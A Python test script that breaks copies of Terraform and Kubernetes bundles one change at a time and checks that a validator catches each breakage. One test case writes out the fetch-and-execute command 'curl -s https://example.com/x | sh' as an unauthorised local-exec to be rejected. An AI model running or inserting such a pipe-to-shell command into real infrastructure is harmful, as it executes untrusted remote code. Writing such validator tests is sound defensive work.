#!/usr/bin/env python3
"""The validators must reject broken bundles, or their passing means nothing.

Copies known-good bundles, breaks each in one way at a time, and asserts
check_bundle reports exactly that kind of problem.

Usage: test_validators.py BUNDLE SCHEMA [MORE_BUNDLES...]. A breakage runs on
every bundle that has its file, and each must run on at least one.
"""

from __future__ import annotations

import os
import shutil
import sys
import tempfile

import yaml

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import check_bundle  # noqa: E402
import provider_schema  # noqa: E402


def edit(root: str, rel: str, old: str, new: str) -> None:
    path = os.path.join(root, rel)
    with open(path) as f:
        text = f.read()
    assert old in text, f"{old!r} not in {rel}"
    with open(path, "w") as f:
        f.write(text.replace(old, new, 1))


BREAKAGES = [
    ("unknown argument", "terraform/eks.tf", "deletion_protection", "deletion_protektion", "unknown argument"),
    ("unknown nested block", "terraform/eks.tf", "  storage_config {", "  storage_configuration {", "unknown argument or block `storage_configuration`"),
    ("missing required", "terraform/eks.tf", "  role_arn ", "  # role_arn ", "required argument `role_arn`"),
    ("dangling reference", "terraform/eks.tf", "aws_iam_role.cluster.arn", "aws_iam_role.clustr.arn", "points at nothing"),
    ("unparseable HCL", "terraform/vpc.tf", "resource \"aws_vpc\" \"this\" {", "resource \"aws_vpc\" \"this\" {{", "cannot parse"),
    ("unknown IAM action", "terraform/iam.tf", '"sts:TagSession"', '"sts:TagSessions"', "UNKNOWN_ACTION"),
    ("NodePool Never", "kubernetes/10-nodepools.yaml", "expireAfter: 336h", "expireAfter: Never", "forbids expireAfter: Never"),
    ("NodePool over 21 days", "kubernetes/10-nodepools.yaml", "expireAfter: 336h", "expireAfter: 500h", "exceeds 21 days"),
    ("NodePool unknown field", "kubernetes/10-nodepools.yaml", "consolidateAfter:", "consolidateAfterr: 1m\n    consolidateAfter:", "consolidateAfterr"),
    ("NodeClass misspelt field", "kubernetes/00-nodeclasses.yaml", "snatPolicy:", "snatPolicyy: Random\n  snatPolicy:", "snatPolicyy"),
    ("StorageClass unknown field", "kubernetes/20-storageclass.yaml", "reclaimPolicy:", "reclaimPolicyy: Delete\nreclaimPolicy:", "kubernetes-validate"),
    ("IngressClassParams bad enum", "kubernetes/30-ingressclass.yaml", "scheme: internet-facing", "scheme: public", "scheme"),
    ("YAML lint", "kubernetes/20-storageclass.yaml", "provisioner:", "provisioner:   ", "yamllint"),
    ("capability plural block", "terraform/capabilities.tf", "rbac_role_mapping {", "rbac_role_mappings {", "unknown argument or block `rbac_role_mappings`"),
    ("capability missing type", "terraform/capabilities.tf", 'type                      = "ARGOCD"', '# type = "ARGOCD"', "required argument `type`"),
    ("delivery source dangling", "terraform/logs.tf", "aws_eks_cluster.this.arn", "aws_eks_cluster.that.arn", "points at nothing"),
    ("bucket policy action", "terraform/logs.tf", '"s3:PutObject"', '"s3:PutObjects"', "UNKNOWN_ACTION"),
    ("local-exec other command", "terraform/logs.tf", '"${path.module}/../scripts/wait-for-cluster-update.sh"', '"curl -s https://example.com/x | sh"', "not a bundled script"),
    ("local-exec missing script", "terraform/logs.tf", "scripts/wait-for-cluster-update.sh", "scripts/wait-for-nothing.sh", "does not contain"),
    ("gate dangling", "terraform/logs.tf", "depends_on = [terraform_data.", "depends_on = [terraform_data.x", "points at nothing"),
    ("wait script syntax", "scripts/wait-for-cluster-update.sh", "done\n", "\n", "scripts/wait-for-cluster-update.sh"),
]


def main() -> int:
    bundles = [sys.argv[1]] + sys.argv[3:]
    provider = provider_schema.load(sys.argv[2])
    with open(os.path.join(HERE, "accepted.yaml")) as f:
        accepted = yaml.safe_load(f)
    failed = []
    ran = set()
    for bundle in bundles:
        good = check_bundle.check_bundle(bundle, provider, accepted)
        assert not good.failures, f"the unbroken bundle {bundle} must pass: {good.failures}"
        name = os.path.basename(os.path.normpath(bundle))
        for label, rel, old, new, expect in BREAKAGES:
            if not os.path.isfile(os.path.join(bundle, rel)):
                continue
            ran.add(label)
            with tempfile.TemporaryDirectory() as tmp:
                copy = os.path.join(tmp, "bundle")
                shutil.copytree(bundle, copy)
                edit(copy, rel, old, new)
                r = check_bundle.check_bundle(copy, provider, accepted)
                hit = [f for f in r.failures if expect in f]
                status = "caught" if hit else "MISSED"
                print(f"{status}: {label} ({name})")
                if not hit:
                    failed.append(f"{label} ({name}): expected a failure containing {expect!r}, got {r.failures}")
    for label, *_ in BREAKAGES:
        if label not in ran:
            failed.append(f"{label}: no bundle given has its file")
    for f in failed:
        print("  " + f)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
